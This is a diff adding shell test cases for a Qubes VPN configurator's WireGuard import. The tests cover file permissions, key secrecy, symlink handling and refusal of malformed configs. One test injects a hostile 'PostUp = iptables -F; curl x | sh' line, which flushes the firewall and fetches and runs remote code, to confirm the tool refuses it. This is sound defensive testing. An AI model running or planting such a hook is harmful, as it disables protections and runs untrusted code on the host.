@@ -249,4 +249,67 @@ out=$("$QV" configurator --dir "$WG" --check 2>&1)
 check_contains "WireGuard --check: a shell hook makes it unusable" "$out" "shell commands are never run"
 check_eq "... exit 1" "$("$QV" configurator --dir "$WG" --check >/dev/null 2>&1; echo $?)" 1
 
+# ---- WireGuard: --import takes wg-quick's format ----
+# The provider's file as downloaded (world-readable is fine to read); the
+# written copy holds the private key: root, group qubes-vpn, 0640.
+WI=$TMP/wgimport
+mkdir -p "$WI"
+cp "$CFG/qubes-vpn.conf" "$WI/qubes-vpn.conf"
+ovpn_sum=$(sha256sum <"$WI/qubes-vpn.conf")
+SRC=$TMP/provider-wg.conf
+cp "$TOP/tests/fuzz/corpus/wgconf/dual-stack" "$SRC"
+chmod 644 "$SRC"
+PRIV=KMp8ONEV7ptIxG6rbhwex0fkMj4vH0i9vW0d/yofGEQ=
+wg_import() {
+	with_accounts env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin "$QV" configurator --dir "$WI" \
+		--import "$@" >"$TMP/out" 2>&1
+}
+check "WireGuard --import of the provider's file" wg_import "$SRC"
+out=$(cat "$TMP/out")
+check_contains "... recognised by its [Interface] section, said so" "$out" \
+	"a WireGuard configuration (wg-quick's format: it has an [Interface] section)"
+check "... written as it is" cmp -s "$SRC" "$WI/wireguard.conf"
+check_eq "... a regular file, mode 0640, owner root, group qubes-vpn" \
+	"$(stat -c '%F %a %u %g' "$WI/wireguard.conf")" "regular file 640 0 4343"
+check_contains "... saying that WireGuard now runs, and how to start it" "$out" \
+	"start it with 'sudo systemctl start qubes-vpn-wg.service'"
+check_contains "... that the OpenVPN configuration is kept, unused, and how to go back" "$out" \
+	"qubes-vpn.conf (OpenVPN) is kept but not used: while wireguard.conf exists only the WireGuard unit runs; to go back to OpenVPN, remove wireguard.conf and run 'sudo systemctl start qubes-vpn.service'"
+check_eq "... which is unchanged" "$(sha256sum <"$WI/qubes-vpn.conf")" "$ovpn_sum"
+check_fails "... and the private key is never shown" grep -qF "$PRIV" "$TMP/out"
+check_eq "... no temporary file left" "$(ls -A "$WI" | tr '\n' ' ')" "qubes-vpn.conf wireguard.conf "
+check_contains "--check then reads it as qubes-vpn-wg does" \
+	"$("$QV" configurator --dir "$WI" --check 2>&1)" "wireguard.conf: 1 warning"
+good_sum=$(sha256sum <"$WI/wireguard.conf")
+# refused: nothing written, the working file kept
+refused_wg() {
+	! wg_import "$1" && grep -q "nothing written" "$TMP/out" &&
+		[ "$(sha256sum <"$WI/wireguard.conf")" = "$good_sum" ] && [ ! -e "$WI/.wireguard.conf.new" ]
+}
+sed 's/^DNS = .*/&\nPostUp = iptables -F; curl x | sh/' "$SRC" >"$TMP/wg-postup.conf"
+check "WireGuard --import: PostUp refused, the working file kept" refused_wg "$TMP/wg-postup.conf"
+check_contains "... naming the line" "$(cat "$TMP/out")" "line 6: PostUp: shell commands are never run"
+sed 's|^PublicKey = .*|PublicKey = nNF6ESbgaVf0tGQ09wPkzSZKGBgdZqzbpFzq1IBVFEM|' "$SRC" >"$TMP/wg-badkey.conf"
+check "WireGuard --import: a public key cut short refused" refused_wg "$TMP/wg-badkey.conf"
+sed "s|^PrivateKey = .*|PrivateKey = ${PRIV%=}A|" "$SRC" >"$TMP/wg-badpriv.conf"
+check "WireGuard --import: a private key with a bad end refused" refused_wg "$TMP/wg-badpriv.conf"
+check_fails "... its value never shown" grep -q "${PRIV%%=*}" "$TMP/out"
+sed 's|^Address = .*|Address = 010.66.1.2/33|' "$SRC" >"$TMP/wg-badaddr.conf"
+check "WireGuard --import: a bad Address refused" refused_wg "$TMP/wg-badaddr.conf"
+printf '[Interface]\nPrivateKey = %s\nAddress = 10.0.0.2/32\n' "$PRIV" >"$TMP/wg-nopeer.conf"
+printf '[Peer]\nPublicKey = nNF6ESbgaVf0tGQ09wPkzSZKGBgdZqzbpFzq1IBVFEM=\nAllowedIPs = 10.0.0.0/8\nEndpoint = 192.0.2.1:51820\n' >>"$TMP/wg-nopeer.conf"
+check "WireGuard --import: AllowedIPs short of everything is accepted" wg_import "$TMP/wg-nopeer.conf"
+check_contains "... saying plainly which traffic is refused" "$(cat "$TMP/out")" \
+	"AllowedIPs does not cover 0.0.0.0/0: downstream IPv4 traffic to other addresses is refused"
+check_eq "... with --credentials: a usage error (they are OpenVPN's)" \
+	"$(wg_import "$SRC" --credentials; echo $?)" 2
+# Links where the file goes: replaced, their targets untouched.
+echo precious >"$TMP/target"
+rm -f "$WI/wireguard.conf"
+ln -s "$TMP/target" "$WI/wireguard.conf"
+ln -s "$TMP/target" "$WI/.wireguard.conf.new"
+check "WireGuard --import over a symlink" wg_import "$SRC"
+check_eq "... the link's target untouched" "$(cat "$TMP/target")" precious
+check_eq "... the link replaced by the private file" "$(stat -c '%F %a' "$WI/wireguard.conf")" "regular file 640"
+
 finish
